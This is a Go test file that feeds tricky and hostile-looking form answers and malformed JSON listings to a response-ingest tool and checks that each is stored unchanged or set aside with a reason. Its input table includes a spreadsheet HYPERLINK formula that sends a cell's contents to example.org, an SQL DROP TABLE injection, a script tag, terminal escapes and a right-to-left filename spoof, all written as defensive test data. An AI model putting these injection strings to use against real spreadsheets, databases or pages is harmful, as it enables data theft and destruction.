package faulttest

import (
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"canvass/internal/emulator"
)

// putRaw adds a response without counting on it.
func (u *upstream) putRaw(form string, d item) {
	raw, err := json.Marshal(d)
	if err == nil {
		err = u.server.PutResponse(form, raw)
	}
	if err != nil {
		u.tb.Fatal(err)
	}
}

// body makes the second form answer a listing with these documents, whatever the
// emulator thinks of them.
func (w *world) body(documents any) {
	raw, err := json.Marshal(map[string]any{"responses": documents})
	w.must(err)
	w.listing(string(raw))
}

func (w *world) listing(raw string) {
	w.google.AddFault(emulator.Fault{Path: "/v1/forms/" + secondForm + "/responses", Kind: emulator.KindHTML, Status: 200, Body: raw})
}

// texts are answers that somebody or something might trip over. They are stored
// as they are; what no database can hold becomes �, counted, the original kept.
func texts() map[string][2]string { // name: as sent, as stored
	same := map[string]string{
		"formula": "=HYPERLINK(\"http://example.org/?\"&A1,\"ok\")", "formula after a tab": "\t=1+1", "benign plus": "+44 20 7946 0000", "handle": "@handle",
		"escaped by someone": "_x000D_ _x0041_", "leading noughts": "00123", "exponent": "1e5", "seventeen digits": "12345678901234567", "error": "#REF!",
		"line ends": "a\r\nb\rc\nd", "blanks around": "  canary  ", "only blanks": "   ", "only a hard blank": "\u00a0",
		"long": strings.Repeat("x", 32768), "very long": strings.Repeat("canary ", 1<<20/7), "emoji": strings.Repeat("🐤", 16384),
		"composed": "José", "decomposed": "Jose\u0301", "family": "👩‍👩‍👧‍👦", "flags and tones": "🇪🇸👍🏽", "two directions": "مرحبا canary 12", "override": "\u202egpj.exe", "isolate left open": "\u2066x",
		"zero width": "a\u200bna@example.org", "look-alike": "Аna", "many marks": "e" + strings.Repeat("\u0301", 200), "mark of order": "\ufeffx\ufeffy",
		"separators": "a\u2028b\u2029c\u0085d", "dotless": "İıß", "terminal": "\x1b[2J\x1b]0;t\a\b\x7f\u009b", "markup": "<script>alert(1)</script><!-- {{.Secret}} &lt;b&gt;",
		"sql": "'; DROP TABLE responses;--", "search": "\" OR 1=1 % _ NEAR( \"", "noncharacters": "\ufffe\uffff",
	}
	out := map[string][2]string{"nul": {"a\x00b", "a\ufffdb"}}
	for name, s := range same {
		out[name] = [2]string{s, s}
	}
	return out
}

func TestTextsAreStoredAsTheyAre(t *testing.T) {
	w := newWorld(t, t.TempDir(), binaries(*prebuilt))
	all, n := texts(), 0
	for _, name := range slices.Sorted(maps.Keys(all)) {
		id := fmt.Sprintf("t%02d", n)
		w.put(feedbackForm, id, minute(20), all[name][0])
		w.held["feedback "+id] = state(minute(20), all[name][1])
		n++
	}
	w.exits(0)
	w.equal()
	w.calm()
	w.report(0, "excel")
}

// bodies are documents of a listing, and what becomes of each: the view that is
// stored, or words of the reason for putting it aside.
func bodies() []struct{ name, raw, view, aside string } {
	const times = `"createTime":"2025-09-01T08:00:00Z","lastSubmittedTime":"2025-09-01T08:00:00Z"`
	answers := func(inner string) string { return `"answers":{"0000000b":{"questionId":"0000000b",` + inner + `}}` }
	text := answers(`"textAnswers":{"answers":[{"value":"canary"}]}`)
	return []struct{ name, raw, view, aside string }{
		{"unknown members", `{"responseId":"ID",` + times + `,"novelty":{"a":[1]},` + text + `}`, "canary", ""},
		{"no answers", `{"responseId":"ID",` + times + `}`, "", ""},
		{"answers are null", `{"responseId":"ID",` + times + `,"answers":null}`, "", ""},
		{"no choice made", `{"responseId":"ID",` + times + `,` + answers(`"textAnswers":{"answers":[]}`) + `}`, "", ""},
		{"several choices", `{"responseId":"ID",` + times + `,` + answers(`"textAnswers":{"answers":[{"value":"a"},{"value":"b, c"}]}`) + `}`, "a|b, c", ""},
		{"a file", `{"responseId":"ID",` + times + `,` + answers(`"fileUploadAnswers":{"answers":[{"fileId":"x","fileName":"canary.pdf","mimeType":"application/pdf"}]}`) + `}`, "", ""},
		{"half a surrogate", `{"responseId":"ID",` + times + `,` + answers(`"textAnswers":{"answers":[{"value":"a\ud800b"}]}`) + `}`, "a\ufffdb", ""},
		{"not UTF-8", `{"responseId":"ID",` + times + `,` + answers("\"textAnswers\":{\"answers\":[{\"value\":\"a\xff\xfeb\"}]}") + `}`, "a\ufffdb", ""},
		{"deep", `{"responseId":"ID",` + times + `,"novelty":` + strings.Repeat("[", 9000) + strings.Repeat("]", 9000) + `,` + text + `}`, "canary", ""},
		{"an id like another's", `{"responseId":"id",` + times + `,` + text + `}`, "canary", ""},
		{"no time", `{"responseId":"ID",` + text + `}`, "", "it has no time of submission"},
		{"no id", `{` + times + `,` + text + `}`, "", "id"},
		{"a number for a text", `{"responseId":"ID",` + times + `,` + answers(`"textAnswers":{"answers":[{"value":5}]}`) + `}`, "5", ""},
		{"a list for a response", `["canary"]`, "", "it is not an object"},
		{"a name twice: the later one", `{"responseId":"other",` + times + `,"responseId":"ID",` + text + `}`, "canary", ""},
	}
}

// TestBodies: each document is stored, or put aside with a reason; never a crash,
// and never the loss of the others on its page.
func TestBodies(t *testing.T) {
	w := newWorld(t, t.TempDir(), binaries(*prebuilt))
	w.exits(0)
	var page []string
	reasons, aside := []string{}, 0
	for i, c := range bodies() {
		id := fmt.Sprintf("Body%02d", i)
		page = append(page, strings.ReplaceAll(strings.ReplaceAll(c.raw, `"ID"`, `"`+id+`"`), `"id"`, `"body00"`))
		if c.aside != "" {
			reasons, aside = append(reasons, c.aside), aside+1
			continue
		}
		if !strings.Contains(c.raw, `"ID"`) {
			id = "body00" // the first one's, but for case
		}
		w.held["second "+id] = state(time.Date(2025, 9, 1, 8, 0, 0, 0, time.UTC), c.view)
	}
	for id := range 3 {
		delete(w.held, fmt.Sprintf("second s%02d", id))
	}
	w.listing(`{"responses":[` + strings.Join(page, ",") + `]}`)
	e := w.exits(0, "--accept-gone", "second")
	w.equal()
	if s := e.Sources[1]; s.Quarantined != aside || s.Fetched != len(page) {
		t.Errorf("got %+v, want %d put aside of %d", s, aside, len(page))
	}
	said := strings.Join(strings.Fields(w.run(w.bin.ingest(), "status").out), " ")
	for _, r := range reasons {
		if !strings.Contains(said, r) {
			t.Errorf("status does not say %q: %s", r, said)
		}
	}
}
